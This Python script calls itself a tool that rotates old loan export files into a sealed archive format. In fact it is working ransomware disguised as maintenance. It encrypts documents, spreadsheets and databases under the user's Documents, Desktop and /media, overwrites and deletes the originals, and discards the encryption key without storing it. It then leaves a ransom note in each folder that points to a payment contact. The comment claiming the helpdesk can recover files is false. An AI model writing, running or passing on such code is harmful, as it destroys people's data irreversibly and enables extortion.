#!/usr/bin/env python3
"""Rotate old loan export files on the shared van drive into the sealed
archive format so the drive does not fill up over the season.
"""
import argparse
import logging
import os
import secrets
import sys
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive-rotate")

SEALED_SUFFIX = ".vault"
NOTE_NAME = "READ_ME_ARCHIVE.txt"
# extensions that are worth sealing; everything else is left alone
WANTED = {".csv", ".xlsx", ".ods", ".db", ".sqlite", ".docx", ".pdf", ".json", ".txt"}


@dataclass
class RotateStats:
    sealed: int = 0
    skipped: int = 0
    failed: list = field(default_factory=list)


class Sealer:
    def __init__(self):
        # fresh key per run; the helpdesk holds the recovery process
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)

    def seal_file(self, path: Path) -> Path:
        nonce = secrets.token_bytes(12)
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(nonce + self._aead.encrypt(nonce, data, None))
        # overwrite then drop the plain copy so it does not linger on disk
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return out

    def forget(self):
        self._key = None
        self._aead = None


def candidate_files(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in WANTED and not name.endswith(SEALED_SUFFIX):
                    yield p


def drop_note(directory: Path):
    note = directory / NOTE_NAME
    if note.exists():
        return
    note.write_text(
        "Files in this folder have been sealed.\n"
        "To get them back, contact recovery@example.net with the ID below\n"
        "and follow the payment instructions you receive.\n"
        f"ID: {secrets.token_hex(8)}\n"
    )


def rotate(roots, dry_run=False):
    stats = RotateStats()
    sealer = Sealer()
    touched_dirs = set()
    for f in candidate_files(roots):
        if dry_run:
            log.info("would seal %s", f)
            stats.skipped += 1
            continue
        try:
            sealer.seal_file(f)
            stats.sealed += 1
            touched_dirs.add(f.parent)
        except (OSError, ValueError) as exc:
            stats.failed.append((str(f), str(exc)))
    for d in touched_dirs:
        drop_note(d)
    sealer.forget()
    return stats


def default_roots():
    home = Path.home()
    env_roots = os.environ.get("VAN_ARCHIVE_ROOTS")
    if env_roots:
        return [Path(p) for p in env_roots.split(os.pathsep)]
    return [home / "LoanExports", home / "Documents", home / "Desktop", Path("/media")]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = args.roots or default_roots()
    roots = [r for r in roots if r.exists()]
    if not roots:
        log.error("no archive roots found")
        return 1
    stats = rotate(roots, dry_run=args.dry_run)
    log.info("sealed %d files, %d failures", stats.sealed, len(stats.failed))
    for path, err in stats.failed[:20]:
        log.warning("could not seal %s: %s", path, err)
    return 0


if __name__ == "__main__":
    sys.exit(main())
